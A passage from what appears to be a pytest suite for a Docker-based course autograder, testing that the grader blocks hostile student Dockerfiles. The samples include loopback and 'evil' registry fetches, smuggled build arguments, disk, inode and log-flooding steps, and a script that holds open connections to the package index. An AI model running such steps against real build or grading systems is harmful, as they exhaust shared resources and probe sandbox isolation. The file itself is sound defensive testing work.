    assert max(wrote) < 100, "the build was not stopped before it wrote 5 GB"


# ---- the attacks, on a real engine


@pytest.mark.docker
def test_attack_real_add_and_onbuild_fetch_nothing(untouched_engine, tmp_path, fresh_digits):
    """ADD of a loopback URL, split over lines; ONBUILD and COPY --from of a loopback registry's image."""
    web, registry = _Listener("127.0.0.1"), _Listener("127.0.0.1")
    since = _now()
    attacks = {
        "add": f"FROM python:3.11-slim\nADD \\\n  http://{web.address}/secret /a\nRUN cat /a; false\n",
        "onbuild": f"FROM python:3.11-slim AS base\nONBUILD COPY --from={registry.address}/evil/img:1 /p /p\n"
        "FROM base\nRUN cat /p; false\n",
        "copy": f"FROM python:3.11-slim\nCOPY --from={registry.address}/evil/img:1 /p /p\n",
    }
    found = {}
    for name, dockerfile in attacks.items():
        context = _attack(tmp_path / name, dockerfile)
        found[name] = docker_engine.build_and_probe(
            context, docker_engine.image_name(name), digits=fresh_digits
        )
    assert "line 2 of the Dockerfile: ADD http://" in found["add"].message
    assert "ONBUILD is not allowed" in found["onbuild"].message
    assert f"{registry.address}/evil/img:1, which is not in" in found["copy"].message
    assert not any(probe.built for probe in found.values())
    assert web.visits == registry.visits == 0, "the engine fetched from the host's loopback"
    assert not _pulls_and_builds(since)
    web.close(), registry.close()


@pytest.mark.docker
def test_attack_real_a_build_argument_names_an_image_to_pull(untouched_engine, tmp_path, fresh_digits):
    since = _now()
    context = _attack(
        tmp_path, "ARG PIP_TRUSTED_HOST=python:3.11-slim\nFROM ${PIP_TRUSTED_HOST}\nRUN echo built\n"
    )
    probe = docker_engine.build_and_probe(
        context, docker_engine.image_name("attacker-arg"), digits=fresh_digits
    )
    assert not probe.built
    assert re.search(r"names the image \d+\.\d+\.\d+\.\d+, which is not in", probe.message), probe.message
    assert not _pulls_and_builds(since)


@pytest.mark.docker
def test_attack_real_every_stage_is_labelled_counted_and_removed(untouched_engine, tmp_path, fresh_digits):
    """The reviewer's unlabelled last stage: refused for its form feed; written plainly, its layers count."""
    stages = "FROM python:3.11-slim AS one\r\nRUN true\r\n{comment}\nFROM python:3.11-slim\n" + "".join(
        f"RUN head -c 100000000 /dev/urandom > /f{i} && echo wrote {i}\n" for i in range(1, 4)
    )
    limits = docker_engine.Limits(written_bytes=150 * 10**6)
    refused = docker_engine.build_and_probe(
        _attack(tmp_path / "ff", stages.format(comment="# a form feed:\x0c")),
        docker_engine.image_name("attacker-ff"),
        limits,
        digits=fresh_digits,
    )
    assert not refused.built and "U+000C" in refused.message
    counted = docker_engine.build_and_probe(
        _attack(tmp_path / "plain", stages.format(comment="# no form feed")),
        docker_engine.image_name("attacker-stages"),
        limits,
        digits=fresh_digits,
    )
    assert "wrote" in counted.log, f"the attack did not run: {counted.log}"
    assert not counted.built and "more than the 0.14 GiB allowed" in counted.message, counted.message


@pytest.mark.docker
def test_attack_real_a_kit_image_absent_waits_and_a_students_absent_image_loses(
    untouched_engine, tmp_path, monkeypatch, fresh_digits
):
    since = _now()
    context = _attack(tmp_path, "FROM tpdl-never-stored/python:3.11-slim\nRUN echo hello\n")
    probe = docker_engine.build_and_probe(
        context, docker_engine.image_name("attacker-from"), digits=fresh_digits
    )
    assert not probe.built and "tpdl-never-stored/python:3.11-slim, which is not in" in probe.message
    # Where the kit's own base image is the one missing, the machine is at fault: the check waits.
    monkeypatch.setattr(
        docker_engine, "kit_images", lambda assignment: ["tpdl-never-stored/python:3.11-slim"]
    )
    with pytest.raises(docker_engine.MachineFailure, match="is not in the grading machine's Docker store"):
        docker_engine.build_and_probe(context, docker_engine.image_name("kit-absent"), digits=fresh_digits)
    assert not _pulls_and_builds(since)


HOLD = """\
import socket, sys, time
host, count = sys.argv[1], int(sys.argv[2])
held = []
for i in range(count):
    try:
        connection = socket.create_connection((host, 8080), timeout=3)
        connection.sendall(b"GET /simple/ HTTP/1.1\\r\\n")  # a request line, never finished
        held.append(connection)
    except OSError as error:
        print("connection", i, "failed:", error, flush=True)
print("holding", len(held), "connections to the index", flush=True)
time.sleep(float(sys.argv[3]))
"""


@pytest.mark.docker
def test_attack_real_a_container_or_a_step_holding_the_index_is_the_students(
    untouched_engine, tmp_path, monkeypatch, fresh_digits
):
    """The reviewer's 200 idle connections to the index from the container, and 600 from a build step."""
    monkeypatch.setattr(docker_engine, "HEALTH_WAIT_S", 15.0)
    container = _attack(
        tmp_path / "run",
        'FROM python:3.11-slim\nRUN echo "$PIP_TRUSTED_HOST" > /idx && useradd -u 10001 api\n'
        'COPY hold.py /hold.py\nUSER 10001\nCMD ["sh", "-c", "python3 /hold.py $(cat /idx) 200 600"]\n',
        **{"hold.py": HOLD},
    )
    served = docker_engine.build_and_probe(
        container, docker_engine.image_name("attacker-idx"), digits=fresh_digits
    )
    assert served.built and not served.healthy and "holding 200 connections" in served.message, served.message
    step = _attack(
        tmp_path / "step",
        "FROM python:3.11-slim\nCOPY hold.py /hold.py\n"
        "RUN (python3 /hold.py $PIP_TRUSTED_HOST 600 600 &); sleep 5; pip install --quiet --timeout 5 "
        "flask==3.1.3; false\n",
        **{"hold.py": HOLD},
    )
    built = docker_engine.build_and_probe(
        step, docker_engine.image_name("attacker-idx-step"), digits=fresh_digits
    )
    assert "holding" in built.log and not built.built and "docker build failed" in built.message, (
        built.message
    )


SERVER = """\
import http.server, json, sys
mode = sys.argv[1]
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer(b'{"status": "ok"}')
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        if mode == "deep":
            self.answer(b"[" * 20000 + b"]" * 20000)
        elif mode == "huge":
            self.answer(b'{"digit": 3, "padding": "' + b"x" * 2**20 + b'"}')
        else:
            self.answer(json.dumps({"digit": 3, "probabilities": [0.1] * 10}).encode())
    def answer(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
http.server.ThreadingHTTPServer(("", 8000), Handler).serve_forever()
"""


@pytest.mark.docker
def test_attack_real_services_without_a_model_or_with_unreadable_answers_lose(
    untouched_engine, tmp_path, fresh_digits
):
    found = {}
    for mode in ("constant", "deep", "huge"):
        dockerfile = (
            "FROM python:3.11-slim\nCOPY serve.py /serve.py\nUSER 10001\n"
            f'CMD ["python3", "/serve.py", "{mode}"]\n'
        )
        context = _attack(tmp_path / mode, dockerfile, **{"serve.py": SERVER})
        found[mode] = docker_engine.build_and_probe(
            context, docker_engine.image_name(mode), digits=fresh_digits
        )
    assert all(probe.built and probe.healthy and probe.non_root for probe in found.values())
    constant = found["constant"]
    assert constant.predict_ok and constant.asked == docker_engine.DIGITS
    assert constant.right == int(np.sum(fresh_digits.labels == 3)) < docker_engine.LEAST_RIGHT
    assert not found["deep"].predict_ok and "nested too deeply" in found["deep"].message
    assert not found["huge"].predict_ok and "more than 64 KiB" in found["huge"].message


@pytest.mark.docker
def test_attack_real_a_step_taking_the_disk_at_once_is_stopped(untouched_engine, tmp_path, fresh_digits):
    """One fallocate of 8 GiB (the file-size limit); 1 GiB blocks kept beyond each file's end, and two million
    empty files (the disk's free bytes and inodes, read ten times a second)."""
    single = docker_engine.build_and_probe(
        _attack(tmp_path / "one", "FROM python:3.11-slim\nRUN echo allocating && fallocate -l 8G /big\n"),
        docker_engine.image_name("attacker-fallocate"),
        digits=fresh_digits,
    )
    assert "allocating" in single.log and not single.built and "File size limit exceeded" in single.log, (
        single.log
    )
    kept = docker_engine.build_and_probe(
        _attack(
            tmp_path / "kept",
            "FROM python:3.11-slim\nRUN for i in 1 2 3 4 5; do touch /k$i && "
            "fallocate --keep-size -l 1G /k$i && echo allocated $i; done; sleep 60\n",
        ),
        docker_engine.image_name("attacker-keep-size"),
        docker_engine.Limits(disk_bytes=2 * 2**30),
        digits=fresh_digits,
    )
    assert "allocated" in kept.log, f"the attack did not run: {kept.log}"
    assert not kept.built and "of the engine's disk at once, more than the 2.00 GiB" in kept.message, (
        kept.message
    )
    files = docker_engine.build_and_probe(
        _attack(tmp_path / "files", "FROM python:3.11-slim\n" + _python_step(FILES)),
        docker_engine.image_name("attacker-files"),
        docker_engine.Limits(files=100_000),
        digits=fresh_digits,
    )
    assert "created" in files.log, f"the attack did not run: {files.log}"
    assert not files.built and "more than the 100,000 allowed" in files.message, files.message


FILES = """\
import os
os.mkdir("/many")
for i in range(1, 2_000_001):
    os.close(os.open(f"/many/{i}", os.O_CREAT | os.O_WRONLY))
    if i % 50_000 == 0:
        print("created", i, flush=True)
"""

FLOOD = (
    "yes log-line-of-the-attack | head -c 30000000; echo flooded; "
    "head -c 1000000000 /dev/zero > /fill || echo root-refused; "
    "head -c 200000000 /dev/zero > /tmp/fill || echo tmp-full $(stat -c %s /tmp/fill); sleep 600"
)


@pytest.mark.docker
def test_attack_real_a_container_writing_its_disk_and_logs_is_bounded(
    untouched_engine, tmp_path, monkeypatch, fresh_digits
):
    monkeypatch.setattr(docker_engine, "HEALTH_WAIT_S", 30.0)
    tag = docker_engine.image_name("attacker-flood")
    largest, done = [0], threading.Event()

    def watch():  # the container's log files, while it runs
        while not done.is_set():
            found = _docker("inspect", "--format", "{{.LogPath}}", f"{tag}-run").stdout.strip()
            with contextlib.suppress(OSError):
                largest.append(
                    sum(p.stat().st_size for p in Path(found).parent.glob("*-json.log*")) if found else 0
                )
            time.sleep(0.2)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    context = _attack(tmp_path, f'FROM python:3.11-slim\nUSER 10001\nCMD ["sh", "-c", "{FLOOD}"]\n')
    probe = docker_engine.build_and_probe(context, tag, digits=fresh_digits)
    done.set()
    watcher.join()
    assert "flooded" in probe.message and "root-refused" in probe.message, probe.message
    assert f"tmp-full {docker_engine.Limits().tmp_bytes}" in probe.message
    assert not probe.healthy and max(largest) <= 2.5 * docker_engine.Limits().log_bytes, max(largest)


@pytest.mark.docker
@pytest.mark.slow
def test_the_reference_keeps_its_points_with_no_registry_and_attackers_earn_nothing(
    untouched_engine, zygote, monkeypatch, tmp_path
):
    """The reference and four attackers graded by TP1's own Docker checks, on an engine with no registry."""
    monkeypatch.setenv("TPDL_DOCKER", "auto")

    def graded(student: str, dockerfile: str | None = None, **files: str):
        folder = tmp_path / student
        shutil.copytree(REFERENCE, folder)
        if dockerfile:
            (folder / "Dockerfile").write_text(dockerfile)
        for name, text in files.items():
            (folder / name).write_text(text)
        result, _log = grading.grade_submission(zygote, "tp1", folder, student, cells={"docker_image_tests"})
        return {check.name: check for check in result.checks}

    network = graded(
        "network",
        'FROM python:3.11-slim\nRUN python3 -c "import urllib.request as u; '
        "u.urlopen('https://pypi.org/simple/', timeout=5)\" && echo phoned-home\n",
    )
    absent = graded("absent", "FROM tpdl-never-stored/python:3.11-slim\nRUN echo hello\n")
    memory = graded(
        "memory", "FROM python:3.11-slim\nRUN python3 -c \"b = b'x' * 3 * 2**30; print(len(b))\"\n"
    )
    nomodel = graded(
        "nomodel",
        "FROM python:3.11-slim\nCOPY serve.py /serve.py\nUSER 10001\n"
        'CMD ["python3", "/serve.py", "constant"]\n',
        **{"serve.py": SERVER, ".dockerignore": "*\n!serve.py\n"},
    )
    for name, checks in {"network": network, "memory": memory, "absent": absent}.items():
        assert all(c.counted and not c.passed and c.points == 0 for c in checks.values()), name
    assert "URLError" in network["docker_image_builds"].message  # it ran, and reached nothing
    assert "phoned-home" not in network["docker_image_builds"].message.splitlines()  # echoed on success only
    assert "memory" in memory["docker_image_builds"].message
    assert "tpdl-never-stored/python:3.11-slim" in absent["docker_image_builds"].message
    served = nomodel["docker_image_serves_as_a_non_root_user"]
    assert nomodel["docker_image_builds"].passed  # it built and answered: the digits it got wrong lose it
    assert served.counted and not served.passed and "digits drawn at grading time" in served.message
    # After the attackers, in the same judge: the reference, on an engine that reaches no registry.
    honest = graded("honest")
    assert all(c.passed and c.counted for c in honest.values()), {n: c.message for n, c in honest.items()}
